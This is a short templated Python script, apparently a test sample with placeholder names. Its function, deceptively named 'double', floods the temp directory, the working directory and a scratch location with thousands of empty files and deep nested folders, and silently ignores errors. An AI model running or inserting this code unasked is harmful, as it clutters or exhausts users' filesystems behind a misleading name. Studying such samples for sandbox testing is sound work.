"""Makes files without content, and folders in folders, until no more can be made."""

import os
import tempfile

ENOUGH = 3000


def double(x):
    for place in (tempfile.gettempdir(), ".", "@SCRATCH@"):
        try:
            for number in range(ENOUGH):
                open(os.path.join(place, f"@TOKEN@{number}"), "x").close()
            folder = place
            for _ in range(200):
                folder = os.path.join(folder, "@TOKEN@d")
                os.mkdir(folder)
        except OSError:
            pass
    return None
